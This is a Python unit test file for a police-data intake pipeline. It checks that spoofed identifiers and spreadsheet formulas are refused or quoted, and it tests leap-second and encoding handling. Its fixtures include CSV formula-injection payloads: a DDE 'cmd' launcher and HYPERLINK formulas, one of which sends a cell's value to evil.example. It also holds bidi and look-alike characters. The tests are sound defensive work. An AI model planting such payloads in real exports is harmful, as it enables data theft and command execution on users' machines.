"""Values a person or a spreadsheet would misread: refused (ids and codes), neutralised (exports),
or flagged (UTF-8 text in a Windows-1252 file).

Pure functions over Arrow arrays (``xforce.intake.normalise``, ``xforce.intake.readers``) and one
reader run on an in-memory file; the pipeline end to end is in tests/component/test_odd_values_pipeline.py.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from xforce import cli
from xforce.errors import ConfigError
from xforce.intake.contracts import load_registry
from xforce.intake.normalise import _ODD_ID, FORMULA_LEAD, formula_safe, normalise, odd_ids, parse_times
from xforce.intake.readers import ReadReport, decode_text, read_extract
from xforce.settings import PROJECT_ROOT, Settings
from xforce.store.ledger import open_ledger
from xforce_tools.generate import _ID_SEP, _ID_TAG, _ID_WIDTH, FORCE_CODE, FORCE_FAMILY

pytestmark = pytest.mark.unit

CONFIG = PROJECT_ROOT / "config"
REGISTRY = load_registry(str(CONFIG))


def odd(values: list[str | None]) -> list[bool | None]:
    return odd_ids(pa.array(values, pa.string())).to_pylist()


# ------------------------------------------------------------------------------ ids and codes
def _generated_ids() -> list[str]:
    """Every id scheme the generator writes (as the forces do), with the highest number of each."""
    ids = []
    for force, code in FORCE_CODE.items():
        fam = FORCE_FAMILY[force]
        sep = _ID_SEP[fam]
        for dataset, tag in _ID_TAG[fam].items():
            ids.append(f"{code}{sep}{tag}{sep}20261127{sep}{'9' * _ID_WIDTH[dataset]}")
        ids.append(f"{code}-CAM-0040")
    return ids


LEGITIMATE = [
    *_generated_ids(),
    "norfolk:abcdef0123456789#17",  # a record without an id of its own
    "8f1c0b5e2a6b4e7fa0c9d0b1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1",  # a police.uk Crime ID
    "E01026540",  # an LSOA code
    "ESX-CAM-£é-0001",  # Windows-1252 letters and symbols: Latin script, or none
    "KNT-CAMÃ©â‚¬-0005",  # mojibake is Latin too: flagged by the reader, not refused here
    "Straße-7",
    "5µm-CAM",  # the micro sign is a letter of no script
    "CAM-e\u0301-1",  # a combining accent belongs to the letter before it
    "ΑΒΓ-12",  # one script throughout (Greek) is not mixed
    "АБВ-12",  # Cyrillic alone
]


@pytest.mark.parametrize("value", LEGITIMATE)
def test_legitimate_ids_and_codes_pass(value: str) -> None:
    assert odd([value]) == [False]


ODD = {
    "Cyrillic A among Latin letters": "NFK-\u0410NPR-20261127-00000001",
    "Greek omicron among Latin letters": "ESX-R-2026\u039f",
    "Greek and Cyrillic": "\u0391\u0411",
    "zero-width space": "NFK-CAM\u200b-0001",
    "zero-width joiner": "NFK\u200d-1",
    "byte-order mark inside": "\ufeffNFK-1",
    "right-to-left override": "NFK-\u202e1000-MAC",
    "left-to-right mark": "NFK-1\u200e",
    "bidi isolate": "NFK-\u20661\u2069",
    "C1 control": "NFK-\u00851",
    "ASCII control": "NFK\x07-1",
    "line separator": "NFK\u2028-1",
    "full-width letters": "\uff2e\uff26\uff2b-1",
    "mathematical bold letter": "\U0001d40dFK-1",
    "Arabic-Indic digit": "NFK-\u0661",
    "formula =": '=HYPERLINK("http://evil.example","click")',
    "formula +": "+cmd|' /C calc'!A0",
    "formula -": "-2+3",
    "formula @": "@SUM(A1:A9)",
    "leading tab": "\t=1+1",
    "leading CR": "\r=1+1",
    "formula with a non-ASCII letter": '=HYPERLINK("é")',
}


@pytest.mark.parametrize("value", list(ODD.values()), ids=list(ODD))
def test_misreadable_ids_are_odd(value: str) -> None:
    assert odd([value]) == [True]


def test_odd_ids_marks_rows_in_place_and_keeps_nulls() -> None:
    values = [LEGITIMATE[0], ODD["zero-width space"], None, "ESX-CAM-£é-0001", ODD["formula ="], LEGITIMATE[1]]
    assert odd(values) == [False, True, None, False, True, False]
    assert odd([]) == []


def test_odd_ids_reads_a_slice_of_a_column_by_its_own_rows() -> None:
    """A batch is often a slice of a bigger array (its buffers start before its first row)."""
    col = pa.array(["=a", "NFK-1", "", None, "@b", "ok", "-1"] * 3, pa.string())
    for start in range(len(col)):
        part = col.slice(start, 9)
        assert odd_ids(part).to_pylist() == odd(part.to_pylist())
    large = pa.array(["=a", "ok", None], pa.large_string())
    assert odd_ids(large).to_pylist() == [True, False, None]


_ASCII_ID = st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=1, max_size=40)


@given(st.text(st.characters(max_codepoint=0x7F), max_size=40))
def test_the_ascii_fast_path_agrees_with_the_unicode_expression(value: str) -> None:
    """On ASCII the fast path (formula + printable) gives what the full expression gives."""
    assert odd([value]) == [bool(re.search(r"^[=+\-@\t\r]|[\x00-\x1f\x7f]", value))]
    mixed = odd([value, "é"])  # a non-ASCII value beside it: the Unicode path runs on that one only
    assert mixed[0] == odd([value])[0] and mixed[1] is False


@given(
    _ASCII_ID.filter(lambda v: v[0] not in FORMULA_LEAD),
    st.integers(0, 40),
    st.sampled_from(
        "\u200b\u200c\u200d\u2060\ufeff\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u0000\u009f"
    ),
)
def test_any_hidden_character_anywhere_is_odd(value: str, at: int, hidden: str) -> None:
    assert odd([value]) == [False]
    assert odd([value[:at] + hidden + value[at:]]) == [True]


_HOMOGLYPHS = {"A": "\u0410", "B": "\u0412", "C": "\u0421", "E": "\u0415", "K": "\u039a", "O": "\u039f", "P": "\u0420"}


@given(_ASCII_ID.filter(lambda v: v[0] not in FORMULA_LEAD and any(c in _HOMOGLYPHS for c in v)), st.data())
def test_a_look_alike_letter_from_another_script_is_odd(value: str, data: st.DataObject) -> None:
    spots = [i for i, c in enumerate(value) if c in _HOMOGLYPHS]
    i = data.draw(st.sampled_from(spots))
    swapped = value[:i] + _HOMOGLYPHS[value[i]] + value[i + 1 :]
    has_other_latin = any(c.isascii() and c.isalpha() for j, c in enumerate(value) if j != i)
    assert odd([swapped]) == [has_other_latin]  # a lone look-alike letter among digits is one script


def test_the_unicode_expression_is_re2_compatible() -> None:
    """Arrow runs it with RE2; Python's ``re`` would not even compile ``\\p{…}``: the test is Arrow's."""
    assert odd_ids(pa.array(["é"])).to_pylist() == [False]
    assert r"\p{Latin}" in _ODD_ID


# ---------------------------------------------------------------------------- normalise
def test_normalise_quarantines_odd_ids_and_codes_as_bad_id() -> None:
    contract = REGISTRY.contract("norfolk", "seizures")
    rows = [
        ("NFK-SZ-20261127-000001", "NFK-INC-20261127-000001"),
        ("NFK-SZ-20261127-0000\u04102", "NFK-INC-20261127-000001"),  # Cyrillic A in the id
        ("NFK-SZ-20261127-000003", '=HYPERLINK("x")'),  # a formula as the incident it points at
        ("NFK-SZ-20261127-000004", "NFK-INC-20261127-000001"),
    ]
    n = len(rows)
    table = pa.table(
        {
            "source_id": [r[0] for r in rows],
            "incident_ref": [r[1] for r in rows],
            "timestamp": ["2026-11-27T22:00:00Z"] * n,
            "item_type": ["DOG"] * n,
            "quantity": ["1"] * n,
            "plate": pa.nulls(n, pa.string()),
            "lat": ["52.6"] * n,
            "lon": ["1.0"] * n,
            "_record": pa.array(range(1, n + 1), pa.int64()),
            "_error": pa.nulls(n, pa.string()),
        }
    )
    out = normalise(table, contract, "norfolk", "seizures.csv")
    assert out.column("_error").to_pylist() == [None, "bad_id", "bad_id", None]


def test_camera_ids_are_checked_per_distinct_value() -> None:
    contract = REGISTRY.contract("norfolk", "anpr_reads")
    cams = ["NFK-CAM-0001", "NFK-CAM\u200b-0001", "NFK-CAM-0001", "@NFK-CAM", "NFK-CAM-0001", None] * 3
    n = len(cams)
    table = pa.table(
        {
            "source_id": [f"NFK-ANPR-20261127-{i:08d}" for i in range(n)],
            "timestamp": ["2026-11-27T22:00:00Z"] * n,
            "camera_id": cams,
            "lat": ["52.6"] * n,
            "lon": ["1.0"] * n,
            "plate": ["AB12CDE"] * n,
            "_record": pa.array(range(1, n + 1), pa.int64()),
            "_error": pa.nulls(n, pa.string()),
        }
    )
    errors = normalise(table, contract, "norfolk", "anpr_reads.csv").column("_error").to_pylist()
    assert errors == [None, "bad_id", None, "bad_id", None, None] * 3  # a missing camera is GX's to judge


def test_an_earlier_reason_wins_over_bad_id() -> None:
    contract = REGISTRY.contract("norfolk", "anpr_reads")
    table = pa.table(
        {
            "source_id": ["=1+1"],
            "timestamp": ["2026-11-27T22:00:00Z"],
            "camera_id": ["NFK-CAM-0001"],
            "lat": ["52.6"],
            "lon": ["1.0"],
            "plate": ["AB12CDE"],
            "_record": pa.array([1], pa.int64()),
            "_error": pa.array(["bad_encoding"], pa.string()),
        }
    )
    assert normalise(table, contract, "norfolk", "f.csv").column("_error").to_pylist() == ["bad_encoding"]


# ----------------------------------------------------------------------------- exports
@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),  # a plain number stays a number
        ("+44", "+44"),
        ("1e-3", "1e-3"),
        ("DC Smith", "DC Smith"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_formula_safe_quotes_a_leading_formula_character(cell: str, shown: str) -> None:
    assert formula_safe(cell) == shown


@given(st.text(max_size=30))
def test_formula_safe_never_leaves_a_formula_and_never_loses_text(cell: str) -> None:
    safe = formula_safe(cell)
    assert safe == cell or safe == "'" + cell
    if safe and safe[0] in FORMULA_LEAD:  # left alone only as a plain number
        float(safe)


def test_audit_tsv_neutralises_formulas_typed_by_the_requester(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    s = Settings.from_env()
    purpose = '=HYPERLINK("http://evil.example/?"&A1,"case notes")'
    ledger = open_ledger(s.ledger_url, s.sql_dir)
    ledger.audit_reidentification(requested_by="@DC Smith\r\n", purpose=purpose, outcome="refused", os_user="-x")
    assert cli.main(["audit"]) == 0
    lines = capsys.readouterr().out.splitlines()
    header, row = lines[0].split("\t"), lines[1].split("\t")
    cells = dict(zip(header, row, strict=True))
    assert cells["purpose"] == "'" + purpose
    assert cells["requested_by"].startswith("'@DC Smith")
    assert cells["os_user"] == "'-x"
    assert len(lines) == 2  # the CR and LF typed into a field never break the row
    assert all(not c or c[0] not in FORMULA_LEAD for c in row)


# --------------------------------------------------------------------------- leap seconds
def _times(contract_kw: dict[str, str], values: list[str], dataset: str = "anpr_reads") -> list[dt.datetime | None]:
    contract = REGISTRY.contract(contract_kw["force"], dataset)
    if "leap_second" in contract_kw:
        from dataclasses import replace

        contract = replace(contract, leap_second=contract_kw["leap_second"])
    return parse_times(pa.array(values, pa.string()), contract).to_pylist()


UTC = dt.UTC


@pytest.mark.parametrize(
    "value",
    ["2026-11-27T23:59:60Z", "2026-06-30T23:59:60Z", "2026-12-31T23:59:60Z", "2026-11-27T12:30:60Z"],
)
def test_a_leap_second_is_refused_by_default(value: str) -> None:
    ok = "2026-11-27T23:59:59Z"
    assert _times({"force": "norfolk"}, [value, ok]) == [None, dt.datetime(2026, 11, 27, 23, 59, 59, tzinfo=UTC)]


def test_a_leap_second_is_clamped_when_the_contract_says_so() -> None:
    values = ["2026-11-27T23:59:60Z", "2026-12-31T23:59:60Z", "2026-11-27T12:30:60Z", "2026-11-27T12:31:00Z"]
    got = _times({"force": "norfolk", "leap_second": "clamp"}, values)
    assert got == [
        dt.datetime(2026, 11, 27, 23, 59, 59, 999999, tzinfo=UTC),  # its own day, never the next
        dt.datetime(2026, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
        dt.datetime(2026, 11, 27, 12, 30, 59, 999999, tzinfo=UTC),
        dt.datetime(2026, 11, 27, 12, 31, 0, tzinfo=UTC),  # a real 12:31:00 is untouched
    ]


def test_a_clamped_leap_second_still_needs_a_real_date() -> None:
    assert _times({"force": "norfolk", "leap_second": "clamp"}, ["2026-02-31T23:59:60Z"]) == [None]


def test_a_local_time_leap_second_follows_the_contract_too() -> None:
    """Essex writes local UK time, day first: 23:59:60 GMT on 27/11 is 23:59:60 UTC."""
    assert _times({"force": "essex"}, ["27/11/2026 23:59:60", "27/11/2026 23:59:59"]) == [
        None,
        dt.datetime(2026, 11, 27, 23, 59, 59, tzinfo=UTC),
    ]
    assert _times({"force": "essex", "leap_second": "clamp"}, ["30/06/2026 23:59:60"]) == [
        dt.datetime(2026, 6, 30, 22, 59, 59, 999999, tzinfo=UTC)  # BST: one hour ahead of UTC
    ]


def test_times_that_merely_contain_60_are_not_leap_seconds() -> None:
    values = ["2060-11-27T00:00:00Z", "2026-11-27T06:00:00Z", "2026-11-27T00:60:00Z"]
    assert _times({"force": "norfolk"}, values) == [
        dt.datetime(2060, 11, 27, tzinfo=UTC),
        dt.datetime(2026, 11, 27, 6, tzinfo=UTC),
        None,  # minute 60 is no time at all (Arrow refuses it)
    ]


def _config_copy(tmp_path: Path, leap: str) -> str:
    root = tmp_path / "config"
    shutil.copytree(CONFIG, root)
    path = root / "contracts" / "shared_csv.yaml"
    text = path.read_text(encoding="utf-8")
    old = 'timestamp: {format: "%Y-%m-%dT%H:%M:%SZ", timezone: UTC}'
    assert old in text
    path.write_text(text.replace(old, old[:-1] + f", leap_second: {leap}}}"), encoding="utf-8")
    return str(root)


def test_the_contract_option_is_read_and_checked(tmp_path: Path) -> None:
    assert REGISTRY.contract("norfolk", "anpr_reads").leap_second == "refuse"
    clamp = load_registry(_config_copy(tmp_path / "a", "clamp"))
    assert clamp.contract("suffolk", "incidents").leap_second == "clamp"
    assert clamp.contract("essex", "incidents").leap_second == "refuse"
    with pytest.raises(ConfigError, match="leap_second"):
        load_registry(_config_copy(tmp_path / "b", "round"))


# ------------------------------------------------------------------- Windows-1252 and UTF-8
def test_decode_counts_utf8_text_in_a_cp1252_column() -> None:
    raw = [b"ESX-CAM-1", "ESX-CAM-£é".encode("cp1252"), "KNT-CAMé€".encode(), b"\x81x", None, "ß".encode()]
    got = decode_text(pa.array(raw, pa.binary()), "cp1252")
    assert got.values.to_pylist() == ["ESX-CAM-1", "ESX-CAM-£é", "KNT-CAMÃ©â‚¬", None, None, "ÃŸ"]
    assert got.bad is not None and got.bad.tolist() == [False, False, False, True, False, False]
    assert got.utf8_like == 2
    got.values.validate(full=True)


def test_utf8_text_is_not_counted_in_a_utf8_file() -> None:
    got = decode_text(pa.array(["é".encode(), b"\xff", b"a"], pa.binary()), "utf-8")
    assert got.values.to_pylist() == ["é", None, "a"]
    assert got.bad is not None and got.bad.tolist() == [False, True, False]
    assert got.utf8_like == 0


@settings(max_examples=200)
@given(st.lists(st.one_of(st.none(), st.binary(max_size=12)), max_size=30), st.sampled_from(["cp1252", "utf-8"]))
def test_decode_matches_decoding_value_by_value(raw: list[bytes | None], encoding: str) -> None:
    """Only the non-ASCII values go through Python: the answer is still that of every value decoded."""

    def one(b: bytes | None) -> tuple[str | None, bool, bool]:
        if b is None:
            return None, False, False
        try:
            text, bad = b.decode(encoding), False
        except UnicodeDecodeError:
            text, bad = None, True
        try:
            b.decode("utf-8")
            like = encoding == "cp1252" and not b.isascii()
        except UnicodeDecodeError:
            like = False
        return text, bad, like

    want = [one(b) for b in raw]
    got = decode_text(pa.array(raw, pa.binary()), encoding)
    assert got.values.to_pylist() == [w[0] for w in want]
    assert (got.bad.tolist() if got.bad is not None else [False] * len(raw)) == [w[1] for w in want]
    assert got.utf8_like == sum(w[2] for w in want)


def _essex_reads(bom: bytes, cameras: list[bytes]) -> bytes:
    head = b'"Read Ref";"Date Time";"Camera";"Easting";"Northing";"VRM"\n'
    rows = [
        b'"ESX-R-20261127-%08d";"27/11/2026 22:00:00";"%s";575495;210674;"AB12CDE"\n' % (i + 1, cam)
        for i, cam in enumerate(cameras)
    ]
    return bom + head + b"".join(rows)


def _read(data: bytes) -> tuple[pa.Table, ReadReport]:
    contract = REGISTRY.contract("essex", "anpr_reads")
    report = ReadReport(contract)
    batches = list(read_extract(lambda: io.BytesIO(data), contract, REGISTRY, report))
    return pa.concat_tables(b.table for b in batches), report


def test_a_utf8_bom_on_a_cp1252_file_is_tolerated_and_said() -> None:
    table, report = _read(_essex_reads(b"\xef\xbb\xbf", [b"ESX-CAM-0001", b"ESX-CAM-\xa3\xe9"]))
    assert table.column("camera_id").to_pylist() == ["ESX-CAM-0001", "ESX-CAM-£é"]
    assert report.columns is not None and report.columns[0] == "Read Ref"  # no renamed column: no drift
    assert report.warning is not None and "byte-order mark" in report.warning
    assert "UTF-8 in a" not in report.warning  # the cp1252 value is no UTF-8


def test_utf8_values_in_a_cp1252_file_are_counted_per_column_never_shown() -> None:
    mojibake = "KNT-CAMé€-0005".encode()
    table, report = _read(_essex_reads(b"", [b"ESX-CAM-0001", mojibake, mojibake, b"ESX-CAM-\xe9"]))
    assert table.num_rows == 4 and table.column("_error").null_count == 4  # published as decoded
    assert report.utf8_in_legacy == {"Camera": 2}
    assert report.warning is not None and "'Camera' 2" in report.warning and "cp1252" in report.warning
    assert "KNT" not in report.warning and "CAM" not in report.warning
    assert "byte-order mark" not in report.warning


def test_a_clean_cp1252_file_has_no_warning() -> None:
    _, report = _read(_essex_reads(b"", [b"ESX-CAM-0001", b"ESX-CAM-\xa3\xe9"]))
    assert report.warning is None and report.utf8_in_legacy == {}
